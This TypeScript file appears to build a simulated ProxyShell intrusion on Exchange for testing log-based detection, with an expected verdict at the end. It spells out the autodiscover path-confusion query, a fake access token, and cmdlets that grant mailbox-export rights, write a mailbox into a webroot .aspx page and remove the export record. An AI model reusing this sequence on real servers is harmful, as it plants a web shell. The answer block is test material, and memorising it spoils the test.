/**
 * Rows of the chain of August 2021. The token is invented and opens nothing.
 * @see https://github.com/SigmaHQ/sigma/tree/master/rules-emerging-threats/2021/Exploits/ProxyShell-Exploit
 */
import { orders, pageRequest, tools } from './forged-anchor.ts';
import type { Step, StepRequest } from '../step.ts';
import type { Story } from '../story.ts';

const token = 'VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTA5pbnZlbnRlZCBuYW1lVQVTLTEtNQ==';

function hiddenPath(path: string, method: 'GET' | 'POST', status: number, withToken = false): StepRequest {
  const mail = 'Email=autodiscover/autodiscover.json%3F@{DECOY}';
  const rest = withToken ? `X-Rps-CAT=${token}&${mail}` : mail;
  const answered = status >= 200 && status < 300;
  return {
    protocol: 'Autodiscover',
    method,
    stem: '/autodiscover/autodiscover.json',
    query: `@{DECOY}${path}?${withToken ? '' : '&'}${rest}`,
    agent: tools.python,
    authentication: 'FBA',
    anchor: 'ExplicitLogon-SMTP~autodiscover/autodiscover.json?@{DECOY}',
    status,
    ...(answered
      ? {
          proxied: { hint: 'ExplicitLogon-SMTP', status },
          back: { stem: path, query: rest, user: '{NETBIOS}\\{FRONT}$', status },
        }
      : {}),
  };
}

const shell = (cmdlet?: string, parameters?: string): NonNullable<Step['shell']> => ({
  user: '{NETBIOS}\\administrator',
  sid: '{SIDBASE}-500',
  query: `X-Rps-CAT=${token}&Email=autodiscover/autodiscover.json%3F@{DECOY}`,
  application: 'PowerShell',
  client: '{FRONTIP}',
  ...(cmdlet === undefined ? {} : { cmdlet }),
  ...(parameters === undefined ? {} : { parameters }),
});
const ask = (name: string, path: string, method: 'GET' | 'POST', stage: Step['stage'] & string): Step => ({
  name,
  afterS: [1, 3],
  request: hiddenPath(path, method, 200),
  stage,
});
const order = (
  name: string,
  afterS: readonly [number, number],
  stage: Step['stage'] & string,
  cmdlet?: string,
  parameters?: string,
): Step => ({
  name,
  afterS,
  request: hiddenPath('/powershell/', 'POST', 200, true),
  shell: shell(cmdlet, parameters),
  takenMs: [220, 480],
  stage,
});

/** A session of administrators, through Autodiscover. */
export const shellSession: readonly Step[] = [
  ask('names', '/mapi/nspi/', 'GET', 'exploited'),
  ask('discover', '/autodiscover/autodiscover.xml', 'POST', 'exploited'),
  ask('identity', '/mapi/emsmdb/', 'POST', 'exploited'),
  ask('draft', '/ews/exchange.asmx', 'POST', 'exploited'),
  order('session', [4, 6], 'exploited'),
];

/** A mailbox exported to a page, which is looked at. */
export const exportedPage: readonly Step[] = [
  order('role', [2, 4], 'spread', 'New-ManagementRoleAssignment', '-Role "Mailbox Import Export" -User "administrator"'),
  order(
    'export',
    [5, 9],
    'implanted',
    'New-MailboxExportRequest',
    '-Mailbox "{VICTIM1}" -IncludeFolders "#Drafts#" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot{PAGEPATH}"',
  ),
  { name: 'too-early', afterS: [8, 15], request: pageRequest(false, 'GET', tools.python, 404), stage: 'implanted' },
  {
    name: 'first-look',
    afterS: [15, 30],
    request: pageRequest(false, 'GET', tools.python, 200),
    takenMs: [1300, 2600],
    stage: 'implanted',
  },
  order('remove-record', [8, 20], 'implanted', 'Remove-MailboxExportRequest', '-Identity "*" -Confirm "False"'),
];

export const proxyshell: Story = {
  name: 'proxyshell',
  what: 'A session of administrators through Autodiscover, a mailbox exported to a page, orders to that page over some days.',
  sources: [
    'https://github.com/SigmaHQ/sigma/blob/master/rules/windows/builtin/msexchange/win_exchange_proxyshell_mailbox_export.yml',
    'https://github.com/Neo23x0/signature-base/blob/master/yara/expl_proxyshell.yar',
  ],
  from: '2021-08-12',
  days: 14,
  builds: { before: '15.1.2176.9', after: '15.1.2176.14' },
  patchedAt: 0.97,
  intruders: { operator: { page: '/aspnet_client/{LETTERS14}.aspx' }, asker: {} },
  chapters: [
    {
      name: 'asks',
      by: 'asker',
      at: [0.1, 0.25],
      steps: [{ name: 'check', request: hiddenPath('/mapi/nspi/', 'GET', 302), stage: 'probed' }],
    },
    {
      name: 'writes',
      by: 'operator',
      at: [0.4, 0.55],
      steps: [...shellSession, ...exportedPage, orders(false, tools.python, [3, 6], [20, 200])],
    },
    { name: 'comes-back', by: 'operator', at: [0.7, 0.9], steps: [orders(false, tools.python, [4, 9], [20, 400])] },
  ],
  expect: {
    answer: 'confirmed',
    stage: 'spread',
    intruders: 1,
    why: 'the export was accepted and its page answers orders; the role that was given is a right changed',
  },
};
